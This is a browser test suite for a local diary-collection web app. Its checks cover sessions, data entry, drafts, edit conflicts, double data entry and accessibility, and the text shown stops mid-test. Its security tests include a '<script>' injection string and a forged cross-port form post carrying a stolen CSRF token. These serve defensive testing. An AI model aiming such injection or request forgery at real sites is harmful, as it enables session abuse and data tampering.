// desk.test.js — carnet-collect serve in a real browser (Debian's chromium, headless,
// through puppeteer-core): the session, a participant created, three entries typed with
// Ctrl+Enter, a reload, the dashboard's numbers against `stats`, refusals without the token
// or the CSRF field, a non-loopback address, a draft kept, two tabs editing one entry, an
// entry holding <script>, an import previewed then committed, the corpus downloaded, the
// audit filtered, an analysis started and its report opened, double data entry (blind copies, the word diff, reconciling),
// and each page's layout (nothing empty, nothing overlapping).
"use strict";
const { spawn, spawnSync } = require("child_process");
const fs = require("fs");
const http = require("http");
const path = require("path");
const puppeteer = require("puppeteer-core");

const collect = process.env.CARNET_COLLECT;
const db = process.env.DESK_DB;
const shots = process.env.DESK_SHOTS;
let failures = 0;

function check(what, ok, detail) {
  if (ok) {
    console.log("ok   " + what);
  } else {
    failures++;
    console.log("FAIL " + what + (detail !== undefined ? ": " + JSON.stringify(detail) : ""));
  }
}

function startServer() {
  return new Promise((resolve, reject) => {
    const child = spawn(collect, ["--db", db, "serve", "--port", "0"], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    let out = "";
    const timer = setTimeout(() => reject(new Error("serve printed no URL: " + out)), 10000);
    child.stdout.on("data", (d) => {
      out += d;
      const m = out.match(/http:\/\/[^\s]+\?token=[0-9a-f]+/);
      if (m) {
        clearTimeout(timer);
        resolve({ child, url: m[0], base: m[0].replace(/\/\?token=.*/, "") });
      }
    });
    child.on("exit", (code) => reject(new Error("serve exited " + code + ": " + out)));
  });
}

// Every block of the main content has a size and something in it, and no two siblings
// overlap: computed in the page from the bounding boxes.
async function layout(page, name) {
  fs.mkdirSync(shots, { recursive: true });
  await page.screenshot({ path: path.join(shots, name + ".png"), fullPage: true });
  const problems = await page.evaluate(() => {
    const out = [];
    const blocks = (parent) =>
      Array.from(parent.children).filter((e) => {
        const s = getComputedStyle(e);
        // what a closed <details> folds is not laid out until it is opened
        const folded = parent.tagName === "DETAILS" && !parent.open && e.tagName !== "SUMMARY";
        return s.display !== "none" && s.visibility !== "hidden" && e.type !== "hidden" &&
          e.getAttribute("aria-hidden") !== "true" && !folded;
      });
    const label = (e) => e.tagName.toLowerCase() + (e.id ? "#" + e.id : "") +
      (e.className && typeof e.className === "string" ? "." + e.className.split(" ")[0] : "");
    const walk = (parent, depth) => {
      const kids = blocks(parent);
      const boxes = kids.map((e) => e.getBoundingClientRect());
      kids.forEach((e, i) => {
        const r = boxes[i];
        const filled = e.textContent.trim() !== "" ||
          e.querySelector("svg, input, textarea, select, button") ||
          ["svg", "input", "textarea", "select", "button", "rect", "line", "text"]
            .includes(e.tagName.toLowerCase());
        if (!(r.width > 0 && r.height > 0) && e.tagName.toLowerCase() !== "br")
          out.push("empty box: " + label(e));
        else if (!filled && !["td", "th"].includes(e.tagName.toLowerCase()))
          out.push("nothing in: " + label(e));
        for (let j = 0; j < i; j++) {
          const q = boxes[j];
          const w = Math.min(r.right, q.right) - Math.max(r.left, q.left);
          const h = Math.min(r.bottom, q.bottom) - Math.max(r.top, q.top);
          const inSvg = e.closest("svg") !== null;
          if (w > 1 && h > 1 && !inSvg)
            out.push("overlap: " + label(kids[j]) + " and " + label(e));
        }
        // (an SVG is checked by its labels below; a closed select's options have no box)
        if (depth < 4 && !["svg", "select"].includes(e.tagName.toLowerCase())) walk(e, depth + 1);
      });
    };
    walk(document.querySelector("main"), 0);
    // The timeline's labels: none may overlap another.
    const texts = Array.from(document.querySelectorAll("svg text")).map((t) => t.getBBox());
    texts.forEach((a, i) => texts.slice(0, i).forEach((b) => {
      if (Math.min(a.x + a.width, b.x + b.width) - Math.max(a.x, b.x) > 1 &&
          Math.min(a.y + a.height, b.y + b.height) - Math.max(a.y, b.y) > 1)
        out.push("timeline labels overlap");
    }));
    return out;
  });
  check("layout of " + name + " (screenshot " + name + ".png)", problems.length === 0, problems);
}

async function text(page, sel) {
  return page.$eval(sel, (e) => e.textContent.trim());
}

// The hint beside a form's date once value is typed there.
async function dateHintFor(page, value) {
  await page.$eval("#date", (e, v) => {
    e.value = v;
    e.dispatchEvent(new Event("input"));
  }, value);
  return text(page, "#date-hint");
}

async function submitWithCtrlEnter(page) {
  await Promise.all([
    page.waitForNavigation({ waitUntil: "load" }),
    (async () => {
      await page.keyboard.down("Control");
      await page.keyboard.press("Enter");
      await page.keyboard.up("Control");
    })(),
  ]);
}

async function main() {
  // A non-loopback address is refused before anything starts.
  const refused = spawnSync(collect, ["--db", db, "serve", "--address", "0.0.0.0"], {
    encoding: "utf8", timeout: 5000,
  });
  check("non-loopback address refused", refused.status === 2 &&
    /not a loopback address/.test(refused.stderr), refused.stderr);

  const server = await startServer();
  const { base, url } = server;
  const browser = await puppeteer.launch({
    executablePath: process.env.CHROMIUM,
    headless: true,
    args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions"],
  });
  // A page left with text typed since its last draft asks first (the browser's question on
  // leaving): the transcriber here says leave. The questions are counted.
  const leaving = [];
  browser.on("targetcreated", async (target) => {
    const p = await target.page();
    if (p) p.on("dialog", (d) => { leaving.push(d.type()); d.accept(); });
  });
  try {
    // Without the token: refused.
    let r = await fetch(base + "/");
    check("no session: 403", r.status === 403, r.status);
    r = await fetch(base + "/?token=" + "0".repeat(64));
    check("wrong token: 403", r.status === 403, r.status);

    const page = await browser.newPage();
    await page.setViewport({ width: 1100, height: 760 });
    const jsErrors = [];
    page.on("pageerror", (e) => jsErrors.push(String(e)));
    // (a refused form answers 422 and the browser asks for /favicon.ico: not script errors)
    page.on("console", (m) => {
      if (m.type() === "error" && !/Failed to load resource/.test(m.text())) jsErrors.push(m.text());
    });
    const first = await page.goto(url, { waitUntil: "load" });
    check("token opens the dashboard", first.status() === 200 &&
      page.url() === base + "/", page.url());
    const headers = first.headers();
    check("strict CSP", /default-src 'self'/.test(headers["content-security-policy"] || "") &&
      !/unsafe-inline/.test(headers["content-security-policy"]), headers);
    check("nosniff, no-store", headers["x-content-type-options"] === "nosniff" &&
      headers["cache-control"] === "no-store", headers);
    const cookies = await page.cookies();
    const session = cookies.find((c) => c.name.startsWith("carnet_desk_"));
    check("session cookie HttpOnly SameSite=Strict", session && session.httpOnly &&
      session.sameSite === "Strict", session);
    r = await fetch(url);
    check("token used twice: 403", r.status === 403, r.status);
    // The session cookie goes to the desk's pages only: browsers keep cookies by host, not
    // port, and a data-protection review caught it sent to another user's program listening
    // on another port of 127.0.0.1, which replayed it (the pages are under a secret prefix,
    // the cookie's Path).
    const prefix = new URL(base).pathname;
    check("the desk's pages under a secret prefix", /^\/d[0-9a-f]{32}$/.test(prefix) &&
      session.path === prefix + "/", { prefix, path: session && session.path });
    r = await fetch(new URL(base).origin + "/");
    check("outside the prefix: 404", r.status === 404, r.status);
    const heard = [];
    const listener = http.createServer((req, res) => {
      heard.push(req.headers.cookie || "");
      res.end("another program");
    });
    await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const elsewhere = await browser.newPage();
    await elsewhere.goto("http://127.0.0.1:" + listener.address().port + "/some-local-tool");
    await elsewhere.close();
    listener.close();
    check("no cookie of the desk sent to another port", heard.length > 0 &&
      heard.every((c) => !/carnet_desk_/.test(c)), heard);

    // The dashboard's numbers are those of `stats`.
    const stats = JSON.parse(spawnSync(collect, ["--db", db, "stats", "--format", "json"],
      { encoding: "utf8" }).stdout);
    const table = await page.$$eval("table.stats tr", (rows) =>
      rows.map((tr) => Array.from(tr.children).map((c) => c.textContent.trim())));
    const round = (v) => String(Math.round(v * 100) / 100);
    let same = table[0].slice(1).join() === stats.map((s) => s.cohort).join();
    stats.forEach((s, i) => {
      const col = (row) => table[row][i + 1];
      same = same && col(1) === String(s.n) && col(2) === String(s.n_with_entries) &&
        col(3) === s.men + " / " + s.women && col(8) === String(s.lost) &&
        col(9) === String(s.late) && col(7).startsWith(round(s.median_entries_per_month) + " ") &&
        col(4).startsWith(round(s.median_age) + " ");
    });
    check("dashboard table = stats --format json", same, { table, stats: stats.length });
    const entries0 = Number(await text(page, "#n-entries"));
    check("dashboard counts the demo's entries", entries0 === 815, entries0);
    const alertLink = await page.$("#alerts a[href^='" + prefix + "/p/']");
    check("alerts link to participants", alertLink !== null);
    await layout(page, "dashboard");
    await page.screenshot({ path: path.join(shots, "readme-dashboard.png") });

    // A POST with the session but without the CSRF field: refused, nothing stored.
    const cookie = session.name + "=" + session.value;
    r = await fetch(base + "/participants", {
      method: "POST", headers: { cookie, "content-type": "application/x-www-form-urlencoded" },
      body: "code=X99&gender=f&birth_year=1980&care_start=2024-01-01&consent_date=2025-01-01",
    });
    check("POST without CSRF: 403", r.status === 403, r.status);

    // A page of another program on this computer (another port of 127.0.0.1 is the same site
    // to the session's cookie, which the browser sends along) posts a form to the desk, even
    // with the right CSRF token: its Origin header names it, and the desk refuses it.
    await page.goto(base + "/participants", { waitUntil: "load" });
    const csrf = await page.$eval("form.participant [name=csrf]", (e) => e.value);
    const other = require("http").createServer((req, res) => {
      res.setHeader("content-type", "text/html");
      res.end("<form method=post action='" + base + "/participants'>" +
        "<input name=csrf value='" + csrf + "'><input name=code value=X98>" +
        "<input name=gender value=f><input name=birth_year value=1980>" +
        "<input name=care_start value=2024-01-01><input name=consent_date value=2025-01-01>" +
        "<button>go</button></form>");
    });
    await new Promise((ok) => other.listen(0, "127.0.0.1", ok));
    await page.goto("http://127.0.0.1:" + other.address().port + "/", { waitUntil: "load" });
    const [foreign] = await Promise.all([page.waitForNavigation(), page.click("button")]);
    other.close();
    const listed = await (await fetch(base + "/participants", { headers: { cookie } })).text();
    check("another program's page posting to the desk: 403, nothing stored",
      foreign.status() === 403 && !/X98/.test(listed), [foreign.status(), /X98/.test(listed)]);

    // A participant: first with mistakes (errors next to the fields), then right.
    await page.goto(base + "/participants", { waitUntil: "load" });
    await layout(page, "participants");
    const fill = async (values) => {
      for (const [name, value] of Object.entries(values)) {
        const sel = "form.participant [name=" + name + "]";
        await page.$eval(sel, (e) => { e.value = ""; });
        await page.type(sel, value);
      }
    };
    await fill({ code: "T01", gender: "q", birth_year: "1980", care_start: "2024-01-01",
      consent_date: "2025-02-30", site: "Lyon", language: "fr" });
    await Promise.all([page.waitForNavigation(), page.click("form.participant button")]);
    check("bad fields refused next to them", (await page.$("#err-gender")) !== null &&
      (await page.$("#err-consent_date")) !== null &&
      /is not f, m or x/.test(await text(page, "#err-gender")));
    // the refusal is where the eye and the keyboard are (trial 48), and the title says it
    check("the first field in error has the focus", (await page.evaluate(
      () => document.activeElement.id)) === "f-gender" &&
      /^Participant not added/.test(await page.title()), await page.title());
    await fill({ gender: "f", consent_date: "2025-01-10" });
    await Promise.all([page.waitForNavigation(), page.click("form.participant button")]);
    check("participant created", page.url() === base + "/p/T01?done=added", page.url());
    check("and said so, with the focus", (await text(page, "#note")) === "Participant T01 added." &&
      (await page.evaluate(() => document.activeElement.id)) === "note");

    // Three entries typed with Ctrl+Enter, the date proposed each time.
    await Promise.all([page.waitForNavigation(), page.click("#type")]);
    const dates = [];
    const typed = ["Premier jour. J'ai mal dormi.", "Deuxième jour, la fatigue.",
      "<script>window.pwned = 1</script> & \"quotes\""];
    for (const t of typed) {
      dates.push(await page.$eval("#date", (e) => e.value));
      await page.focus("#text");
      await page.keyboard.type(t);
      await submitWithCtrlEnter(page);
    }
    // The hint beside the date, as it is typed.
    const hintFor = (value) => dateHintFor(page, value);
    const hints = [await hintFor("2025-01-09"), await hintFor("2025-08-01"),
      await hintFor("2025-01-13")];
    check("date hint: refused before consent, confirm after the period, day of the diary",
      /before consent/.test(hints[0]) && /asked to confirm/.test(hints[1]) &&
      hints[2] === "day 4 of the diary", hints);
    // The period's end day is its last day, as for check and the desk's save; the next is after.
    const end = await page.$eval("#date", (e) => e.getAttribute("data-end"));
    const next = new Date(Date.parse(end) + 86400000).toISOString().slice(0, 10);
    const endHints = [await hintFor(end), await hintFor(next)];
    check("date hint: the end day is in the diary, the day after is not",
      /^day \d+ of the diary$/.test(endHints[0]) && /asked to confirm/.test(endHints[1]),
      [end, endHints]);
    // A date that does not exist is said to be so, as the desk says it on saving.
    const badHints = [await hintFor("2026-02-30"), await hintFor("2025-13-01")];
    check("date hint: an impossible date is named as such", badHints[0] ===
      "'2026-02-30': impossible date, month 2 of 2026 has 28 days: will be refused" &&
      badHints[1] === "'2025-13-01': there is no month 13: will be refused", badHints);
    check("dates proposed: consent, then the day after each",
      dates.join() === "2025-01-10,2025-01-11,2025-01-12", dates);
    check("Ctrl+Enter opens the next entry", /\/p\/T01\/new\?saved=\d+$/.test(page.url()) &&
      /saved/.test(await text(page, "#note")), page.url());
    // Back after a save (trial 48): the browser's refill of the text just saved is undone,
    // so that it becomes neither a draft nor the beginning of the next entry.
    await page.goBack({ waitUntil: "load" });
    const refilled = await page.$eval("#text", (e) => e.value);
    check("Back after a save brings back no saved text", refilled === "", refilled);
    await new Promise((resolve) => setTimeout(resolve, 2500)); // a draft would be sent by now
    await page.goto(base + "/p/T01/new", { waitUntil: "load" });
    const offered = await page.$eval("#text", (e) => e.value);
    check("nor a draft of it", offered === "", offered);
    await layout(page, "entry-form");
    // The edges of fields and buttons stand out at 3:1 at least (WCAG 1.4.11) on the card
    // and on the page (trial 68: 2.1:1 and 1.9:1)
    const edges = await page.evaluate(() => {
      const rgb = (c) => c.match(/\d+/g).slice(0, 3).map(Number);
      const lum = (c) => rgb(c).map((v) => v / 255).map((v) => v <= 0.04045 ? v / 12.92 :
        Math.pow((v + 0.055) / 1.055, 2.4)).reduce((s, v, i) => s + v * [0.2126, 0.7152, 0.0722][i], 0);
      const ratio = (a, b) => (Math.max(lum(a), lum(b)) + 0.05) / (Math.min(lum(a), lum(b)) + 0.05);
      const card = getComputedStyle(document.querySelector(".card")).backgroundColor;
      const paper = getComputedStyle(document.body).backgroundColor;
      const out = [];
      for (const e of document.querySelectorAll("main input:not([type=hidden]), main textarea, main button")) {
        const edge = getComputedStyle(e).borderTopColor;
        if (e.type === "submit" && getComputedStyle(e).backgroundColor === edge) continue; // filled
        out.push(Math.min(ratio(edge, card), ratio(edge, paper)));
      }
      return out;
    });
    check("fields' and buttons' edges at 3:1 at least on the card and the page",
      edges.length > 0 && edges.every((r) => r >= 3), edges);
    await page.focus("#text");
    await page.keyboard.type("Quatrième jour: avec un brouillon.");
    await page.screenshot({ path: path.join(shots, "readme-entry-form.png") });

    // The draft is kept while typing, and a reload restores it.
    await page.waitForFunction(() => /draft kept/.test(
      document.getElementById("draft-state").textContent), { timeout: 8000 });
    await page.reload({ waitUntil: "load" });
    check("reload restores the draft", (await page.$eval("#text", (e) => e.value)) ===
      "Quatrième jour: avec un brouillon." && /Draft restored/.test(await text(page, "#note")));
    // this tab's own draft, come back to: no alarm of another tab's (trial 49)
    check("a reload's own draft is no alert", (await page.$eval("#note",
      (e) => e.getAttribute("role"))) === "status" && /this tab kept/.test(await text(page, "#note")),
    await text(page, "#note"));

    // The diary after a reload: three entries, the script as text.
    await page.goto(base + "/p/T01", { waitUntil: "load" });
    await page.reload({ waitUntil: "load" });
    const shown = await page.$$eval("article.entry p.text", (ps) => ps.map((p) => p.textContent));
    check("three entries after reload", shown.length === 3 && shown.join("|") === typed.join("|"),
      shown);
    check("<script> stays text", (await page.evaluate(() => window.pwned)) === undefined &&
      (await page.$$("article.entry script")).length === 0);
    check("timeline marks three days", (await page.$$("svg.timeline rect.day")).length === 3);
    await layout(page, "participant");
    // The timeline's labels grow with the zoom as the page's text does (trial 68: at 200 %
    // they kept their size on the screen): their height on the screen at 100 % and 200 %.
    const labelHeight = () => page.$eval("svg.timeline text",
      (t) => t.getBoundingClientRect().height * devicePixelRatio);
    const atOne = await labelHeight();
    await page.setViewport({ width: 550, height: 380, deviceScaleFactor: 2 });
    const atTwo = await labelHeight();
    await layout(page, "participant-200");
    await page.setViewport({ width: 1100, height: 760 });
    check("the timeline's labels double with a 200 % zoom", Math.abs(atTwo / atOne - 2) < 0.2,
      [atOne, atTwo]);
    // High contrast: the legend's keys stay three colours, those of the drawing (trial 68:
    // forced colours made them all Canvas)
    const forced = await page.createCDPSession();
    await forced.send("Emulation.setEmulatedMedia",
      { features: [{ name: "forced-colors", value: "active" }] });
    const keys = await page.$$eval(".legend .key", (ks) => ks.map((k) =>
      getComputedStyle(k).backgroundColor));
    const drawn = await page.$eval("svg.timeline rect.day", (r) => getComputedStyle(r).fill);
    await forced.send("Emulation.setEmulatedMedia", { features: [] });
    await forced.detach();
    check("in forced colours the legend's keys stay apart, as the drawing's",
      keys.length === 3 && new Set(keys).size === 3 && keys[0] === drawn, [keys, drawn]);

    // The dashboard has moved on.
    await page.goto(base + "/", { waitUntil: "load" });
    check("dashboard updated", Number(await text(page, "#n-entries")) === 818 &&
      Number(await text(page, "#n-participants")) === 26);

    // Two tabs edit one entry: the second is refused with both versions.
    const id = await page.evaluate(async (b) => {
      const html = await (await fetch(b + "/p/T01")).text();
      return html.match(/id="e(\d+)"/)[1];
    }, base);
    const a = page;
    const b = await browser.newPage();
    await b.setViewport({ width: 1100, height: 760 });
    await a.goto(base + "/e/" + id, { waitUntil: "load" });
    await b.goto(base + "/e/" + id, { waitUntil: "load" });
    await layout(a, "entry-edit");
    // The edit form's date has the new form's hint, but a correction after the diary period
    // is saved without a question: the hint does not promise one.
    const editHint = (value) => dateHintFor(a, value);
    const editHints = [await editHint("2025-01-09"), await editHint("2025-08-01"),
      await editHint("2025-01-13")];
    check("edit form's date hint: refused before consent, after the period without a question",
      /before consent/.test(editHints[0]) && /after the diary period/.test(editHints[1]) &&
      !/confirm/.test(editHints[1]) && editHints[2] === "day 4 of the diary", editHints);
    await a.goto(base + "/e/" + id, { waitUntil: "load" }); // the date as stored
    await a.bringToFront();
    await a.$eval("#text", (e) => { e.value = "Premier jour, corrigé par A."; });
    await a.type("#reason", "typo in the notebook");
    await Promise.all([a.waitForNavigation(), a.click("#save")]);
    // said where the page opens, at the entry, and focused (trial 68: off screen, unheard)
    const corrected = await a.evaluate(() => {
      const n = document.getElementById("note"), box = n ? n.getBoundingClientRect() : null;
      return { text: n && n.textContent, focused: document.activeElement === n,
        seen: !!box && box.top >= 0 && box.bottom <= innerHeight };
    });
    check("a correction is said at its entry, in view and focused",
      corrected.text === "Entry " + id + " corrected." && corrected.focused && corrected.seen,
      corrected);
    await b.bringToFront();
    await b.$eval("#text", (e) => { e.value = "Premier jour, corrigé par B."; });
    await b.type("#reason", "another reading");
    const [resp] = await Promise.all([b.waitForNavigation(), b.click("#save")]);
    check("second edit: 409 conflict", resp.status() === 409, resp.status());
    check("conflict shows both versions",
      (await text(b, "#theirs")) === "Premier jour, corrigé par A." &&
      (await text(b, "#yours")) === "Premier jour, corrigé par B.");
    await layout(b, "entry-conflict");
    const stored = spawnSync(collect, ["--db", db, "entry", "show", id], { encoding: "utf8" });
    check("A's edit kept, not overwritten", /corrigé par A/.test(stored.stdout), stored.stdout);
    const audit = spawnSync(collect, ["--db", db, "audit"], { encoding: "utf8" }).stdout;
    check("reason in the audit trail", /typo in the notebook/.test(audit));

    // The participant's form, then the hand-back in one click and the replacement it offers.
    await a.bringToFront();
    await a.goto(base + "/p/T01/edit", { waitUntil: "load" });
    check("edit form holds the stored values",
      (await a.$eval("[name=site]", (e) => e.value)) === "Lyon");
    await layout(a, "participant-edit");
    await a.goto(base + "/p/T01", { waitUntil: "load" });
    await a.$eval("form.inline [name=handed_back]", (e) => { e.value = "2025-07-15"; });
    await Promise.all([a.waitForNavigation(), a.click("form.inline button")]);
    check("hand-back recorded", (await text(a, "dd.status")) === "handed back" &&
      (await a.$$("svg.timeline line.handback")).length === 1);
    // The hint knows the hand-back, as the desk's save does (trial 40).
    await a.goto(base + "/p/T01/new", { waitUntil: "load" });
    await a.$eval("#date", (e) => { e.value = "2025-07-20"; e.dispatchEvent(new Event("input")); });
    const backHint = await text(a, "#date-hint");
    check("date hint: after the hand-back is refused",
      backHint === "after the diary came back (2025-07-15): will be refused", backHint);
    await a.goto(base + "/p/T01", { waitUntil: "load" });
    await Promise.all([a.waitForNavigation(), a.click("a[href^='" + prefix + "/participants?replaces=T01']")]);
    check("replacement form names whom it replaces",
      (await a.$eval("form.participant [name=replaces]", (e) => e.value)) === "T01");
    // Two tabs of one form (trial 42): the second saves an entry, which removes the draft the
    // first kept; told so, the first keeps it again, and the next form restores it.
    const t1 = await browser.newPage(), t2 = await browser.newPage();
    await t1.bringToFront(); // a hidden tab's timers are slowed down
    await t1.goto(base + "/p/P01/new", { waitUntil: "load" });
    await t1.$eval("#text", (e) => { e.value = "Brouillon du premier onglet."; });
    await t1.waitForFunction(() => /draft kept/.test(
      document.getElementById("draft-state").textContent), { timeout: 8000 }).catch(() => {});
    check("the first tab's draft is kept", /draft kept/.test(await text(t1, "#draft-state")),
      await text(t1, "#draft-state"));
    await t2.bringToFront();
    await t2.goto(base + "/p/P01/new", { waitUntil: "load" });
    // the first tab's unfinished text, taken up by the second, is said at once (trial 48)
    await new Promise((resolve) => setTimeout(resolve, 200)); // the alert's text, set again
    check("a draft just kept is announced as perhaps another tab's",
      (await t2.$eval("#note", (e) => e.getAttribute("role"))) === "alert" &&
      /another tab or window/.test(await text(t2, "#note")), await text(t2, "#note"));
    await t2.$eval("#text", (e) => { e.value = "Entrée du second onglet."; });
    await Promise.all([t2.waitForNavigation(), t2.click("#save")]);
    if (await t2.$("#warnings")) // a date after the diary period: saved on the second click
      await Promise.all([t2.waitForNavigation(), t2.click("#save")]);
    check("the second tab's entry is saved", /saved=\d+/.test(t2.url()), t2.url());
    await new Promise((resolve) => setTimeout(resolve, 1000)); // its draft, kept again
    await t1.close();
    await t2.goto(base + "/p/P01/new", { waitUntil: "load" });
    check("the first tab's draft outlives the second tab's save",
      (await t2.$eval("#text", (e) => e.value)) === "Brouillon du premier onglet.",
      await t2.$eval("#text", (e) => e.value));
    await t2.close();
    // Two tabs of one participant's form, no draft yet: each says the other is open (trial
    // 50: a duplicated tab, which inherits its original's memory, took its draft for its own)
    const u1 = await browser.newPage(), u2 = await browser.newPage();
    await u1.goto(base + "/p/P02/new", { waitUntil: "load" });
    await u2.goto(base + "/p/P02/new", { waitUntil: "load" });
    await new Promise((resolve) => setTimeout(resolve, 400));
    const warned = [];
    for (const u of [u1, u2])
      warned.push(await u.$eval("#note", (e) => e.getAttribute("role") + " " + e.textContent)
        .catch(() => "none"));
    check("two tabs of one form each warn of the other",
      warned.every((w) => /^alert .*open in another tab or window/.test(w)), warned);
    // A draft the desk refuses says why, not a bare status (trial 50): a pasted text over
    // the entry's limit of 1 MiB
    await u1.$eval("#text", (e) => { e.value = "x".repeat(1024 * 1024 + 1); });
    await u1.waitForFunction(() => /draft not kept/.test(
      document.getElementById("draft-state").textContent), { timeout: 8000 }).catch(() => {});
    check("a refused draft says why", /^draft not kept \(400: text: longer than 1048576 bytes\)$/
      .test(await text(u1, "#draft-state")), await text(u1, "#draft-state"));
    await u1.close();
    await u2.close();
    // The desk suspended (a laptop asleep) while an entry is saved (trial 68: a second
    // Ctrl+Enter sent it again, and the "already has this entry" page answering it was the
    // one shown): the form says "sending…", its button disabled, ignores another press,
    // says after a while that the desk is not answering (an alert), and once the desk is
    // back the entry is saved once, its page shown.
    const entries = () => Number(spawnSync("sqlite3", [db, "select count(*) from entry"],
      { encoding: "utf8" }).stdout);
    const pressCtrlEnter = async (p) => {
      await p.keyboard.down("Control");
      await p.keyboard.press("Enter");
      await p.keyboard.up("Control");
    };
    const asleep = await browser.newPage();
    await asleep.setViewport({ width: 1100, height: 760 });
    await asleep.goto(base + "/p/P13/new", { waitUntil: "load" });
    await asleep.$eval("#date", (e) => { e.value = "2025-03-10"; }); // a day without an entry
    await asleep.focus("#text");
    await asleep.keyboard.type("Une page tapée pendant la veille du bureau.");
    const entriesBefore = entries();
    server.child.kill("SIGSTOP");
    let saved;
    try {
      await pressCtrlEnter(asleep);
      await new Promise((resolve) => setTimeout(resolve, 300));
      const waiting = await asleep.evaluate(() => ({
        disabled: document.getElementById("save").disabled,
        busy: document.getElementById("entry-form").getAttribute("aria-busy"),
        state: document.getElementById("draft-state").textContent,
      }));
      check("a save waiting for the desk says so, its button disabled, the form busy",
        waiting.disabled && waiting.busy === "true" && waiting.state === "sending…", waiting);
      await pressCtrlEnter(asleep); // pressed again, as anyone does
      await asleep.click("#save").catch(() => {});
      await asleep.waitForFunction(() => /not answering/.test(
        document.getElementById("draft-state").textContent), { timeout: 8000 }).catch(() => {});
      const said = await asleep.$eval("#draft-state",
        (e) => e.getAttribute("role") + ": " + e.textContent);
      check("and after a while that the desk is not answering, as an alert",
        /^alert: sending… the desk is not answering yet/.test(said), said);
      saved = asleep.waitForNavigation({ waitUntil: "load", timeout: 15000 });
    } finally {
      server.child.kill("SIGCONT");
    }
    await saved.catch(() => {});
    await new Promise((resolve) => setTimeout(resolve, 1000)); // a second send, had one gone
    check("the desk back, the entry is saved once and its page shown",
      /\/p\/P13\/new\?saved=\d+$/.test(asleep.url()) && entries() === entriesBefore + 1 &&
      !/Not saved/.test(await asleep.title()),
    [asleep.url(), await asleep.title(), entriesBefore, entries()]);
    await asleep.close();
    await a.bringToFront();

    // Double data entry: two typists blind to each other, a third reconciles.
    const on = spawnSync(collect, ["--db", db, "config", "--double-entry", "on"],
      { encoding: "utf8" });
    check("config --double-entry on", on.status === 0 && /double entry +on/.test(on.stdout),
      on.stderr);
    const typist = async (name) => {
      await a.goto(base + "/typist", { waitUntil: "load" });
      await a.$eval("#typist-name", (e) => { e.value = ""; });
      await a.type("#typist-name", name);
      await Promise.all([a.waitForNavigation(), a.click("#save")]);
    };
    const typeCopy = async (t) => {
      await a.$eval("#date", (e) => { e.value = "2025-01-20"; });
      await a.focus("#text");
      await a.keyboard.type(t);
      await submitWithCtrlEnter(a);
    };
    await a.goto(base + "/p/T01/new", { waitUntil: "load" });
    check("double entry asks who types first", a.url() === base + "/typist?next=/p/T01/new",
      a.url());
    await layout(a, "typist");
    await a.type("#typist-name", "AB");
    await Promise.all([a.waitForNavigation(), a.click("#save")]);
    check("then the entry form, the typist named", a.url() === base + "/p/T01/new" &&
      /Typist: AB/.test(await text(a, "#typist")), a.url());
    await typeCopy("Le chat dort au soleil <b>ici</b>.");
    const dde = (a.url().match(/saved=(\d+)&copy=first$/) || [])[1];
    check("first copy saved", dde !== undefined, a.url());
    await a.goto(base + "/p/T01", { waitUntil: "load" });
    check("the diary hides a copy not final", !/chat dort/.test(await text(a, "#entries")) &&
      /waiting for the second copy/.test(await text(a, "#e" + dde)));
    await typist("CD");
    await a.goto(base + "/p/T01/new", { waitUntil: "load" });
    await typeCopy("Le chien dort au soleil <b>ici</b>.");
    check("second copy paired with the first", a.url().endsWith("saved=" + dde + "&copy=second"),
      a.url());
    let rec = await a.goto(base + "/e/" + dde + "/reconcile", { waitUntil: "load" });
    check("a typist cannot reconcile", rec.status() === 409 && !/chat/.test(await text(a, "main")));
    await a.goto(base + "/", { waitUntil: "load" });
    check("dashboard lists the entry to reconcile", Number(await text(a, "#n-pending")) === 1 &&
      (await a.$("#dde a[href='" + prefix + "/e/" + dde + "/reconcile']")) !== null);
    await layout(a, "dashboard-dde");
    await typist("EF");
    rec = await a.goto(base + "/e/" + dde + "/reconcile", { waitUntil: "load" });
    check("the third person sees the word diff", rec.status() === 200 &&
      (await a.$$eval("#first del", (d) => d.map((e) => e.textContent).join("|"))) === "chat " &&
      (await a.$$eval("#second ins", (d) => d.map((e) => e.textContent).join("|"))) === "chien ");
    check("copies shown as text", (await a.$$("#first b, #second b")).length === 0 &&
      /<b>ici<\/b>/.test(await text(a, "#second")));
    // the differences in words too, for a screen reader or a colour-blind reader (trial 48)
    check("the differences listed in words",
      (await text(a, "#differences")) === "first copy: “chat ”; second copy: “chien ”",
      await text(a, "#differences"));
    check("each mark announced", (await a.$$("#first .sr-only + del, #second .sr-only + ins"))
      .length === 2);
    await layout(a, "reconcile");
    await a.screenshot({ path: path.join(shots, "readme-reconcile.png") });
    // Ctrl+Enter in the text keeps the text typed, as the button beside it says
    await a.$eval("#text", (e) => { e.value = "Le chien dort au soleil <b>ici</b>."; });
    await a.focus("#text");
    await submitWithCtrlEnter(a);
    check("reconciled: the diary shows the kept copy",
      (await text(a, "#e" + dde + " p.text")) === "Le chien dort au soleil <b>ici</b>." &&
      /reconciled by EF/.test(await text(a, "#e" + dde)));
    const corpus = spawnSync(collect, ["--db", db, "export", "corpus"], { encoding: "utf8" });
    check("the export holds the final entry", /Le chien dort au soleil/.test(corpus.stdout) &&
      !/Le chat dort/.test(corpus.stdout), corpus.stderr);
    // A narrow window (320 px wide, or 640 px at 200 % zoom) scrolls no page sideways
    // (trial 48: the import form's encodings made it 665 px wide).
    const wide = a.viewport();
    await a.setViewport({ width: 320, height: 640 });
    const sideways = [];
    for (const p of ["/", "/participants", "/import", "/export", "/audit", "/themes",
      "/settings", "/p/T01"]) {
      await a.goto(base + p, { waitUntil: "load" });
      const w = await a.evaluate(() => document.documentElement.scrollWidth);
      if (w > 320) sideways.push(p + ": " + w + " px, the widest: " + await a.evaluate(() =>
        Array.from(document.querySelectorAll("main *")).filter((e) =>
          e.getBoundingClientRect().right > 321).map((e) => e.tagName.toLowerCase() +
          (e.id ? "#" + e.id : "")).slice(-3).join(" ")));
    }
    check("no page scrolls sideways at 320 px", sideways.length === 0, sideways);
    await a.setViewport(wide);
    // Import with a preview: a refusal with the CLI's message, then a file previewed and
    // imported whole.
    const up = fs.mkdtempSync(path.join(process.env.TMPDIR || "/tmp", "desk-import-"));
    const badFile = path.join(up, "bad.csv");
    fs.writeFileSync(badFile, "participant,date,text\nT01,2025-01-21,Un\nZ99,2025-01-21,Deux\n");
    const cli = spawnSync(collect, ["--db", db, "import", badFile], { encoding: "utf8" });
